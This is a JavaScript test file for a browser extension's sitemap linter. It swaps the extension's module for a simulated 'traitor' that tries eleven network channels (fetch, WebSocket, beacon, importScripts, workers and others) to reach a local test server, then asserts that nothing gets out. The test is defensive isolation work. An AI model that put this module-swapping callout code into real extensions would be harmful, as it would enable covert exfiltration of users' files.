// An engine that has gone over to the enemy, within the extension: it has a file in its hands, and hosts that are allowed, and
// still reaches nobody.

import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { describe, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import * as b from "../browser/browser.mjs";
import { GRANTED, open, start } from "./extension.mjs";

const WAYS = `{
  fetch: (at) => fetch("http://" + at + "/fetch"),
  blind: (at) => fetch("http://" + at + "/blind", { mode: "no-cors" }),
  xhr: (at) => { const x = new XMLHttpRequest(); x.open("GET", "http://" + at + "/xhr"); x.send(); },
  socket: (at) => { new WebSocket("ws://" + at + "/socket"); },
  events: (at) => { new EventSource("http://" + at + "/events"); },
  beacon: (at) => { navigator.sendBeacon("http://" + at + "/beacon", "x"); },
  scripts: (at) => { importScripts("http://" + at + "/scripts"); },
  module: (at) => import("http://" + at + "/module"),
  worker: (at) => { new Worker("http://" + at + "/worker"); },
  nested: (at) => { new Worker(URL.createObjectURL(new Blob(["fetch('http://" + at + "/nested')"]))); },
  extension: () => (globalThis.browser ?? globalThis.chrome).tabs.create({ url: "about:blank" }),
}`;

// What the traitor says of its tries.
const HEARING = `
const { Worker: Real } = globalThis;
globalThis.Worker = class extends Real {
  constructor(...given) {
    super(...given);
    this.addEventListener("message", ({ data }) => (globalThis.tried ??= data.tried));
  }
};`;

for (const name of b.browsers) {
  describe(`private ${name}`, () => {
    test("the worker sends nothing", { timeout: 90_000 }, async () => {
      const heard = [];
      const server = createServer(({ url }, response) => {
        heard.push(url);
        response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" }).end();
      });
      server.on("upgrade", ({ url }, socket) => {
        heard.push(url);
        socket.destroy();
      });
      await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
      const place = `127.0.0.1:${server.address().port}`;
      const traitor = `
        export * from "./real.js";
        export { default } from "./real.js";
        import { Checker as Real } from "./real.js";
        export class Checker extends Real {
          finish() {
            (async () => {
              const tried = [];
              for (const [name, way] of Object.entries(${WAYS})) {
                let said = "passed";
                try { await Promise.race([way("${place}"), new Promise((done) => setTimeout(done, 300))]); } catch (error) { said = error.name; }
                tried.push([name, said]);
              }
              self.postMessage({ id: -1, kind: "tried", tried });
            })();
            return super.finish();
          }
        }`;
      const change = (folder) => {
        const glue = `${folder}/pkg/sitemap_lint.js`;
        writeFileSync(`${folder}/pkg/real.js`, readFileSync(glue));
        writeFileSync(glue, traitor);
        const script = `${folder}/www/extension.js`;
        writeFileSync(script, `${HEARING}\n${readFileSync(script)}`);
      };
      const at = await start(name, { hosts: GRANTED, change });
      try {
        const tab = await open(at);
        await tab.evaluate((text) => document.querySelector("sitemap-lint").check(new File([text], "a.xml")), b.GOOD);
        const tried = await (await tab.waitForFunction(() => globalThis.tried, { timeout: 20_000 })).jsonValue();
        assert.equal(tried.length, 11);
        await sleep(500);
        assert.deepEqual(heard, [], JSON.stringify(tried));
        // The page itself, which the reader lets read, can: so the listener hears.
        await tab.evaluate((url) => fetch(url).then(() => {}), `http://${place}/page`);
        assert.deepEqual(heard, ["/page"]);
      } finally {
        await at.stop();
        server.closeAllConnections();
        server.close();
      }
    });
  });
}
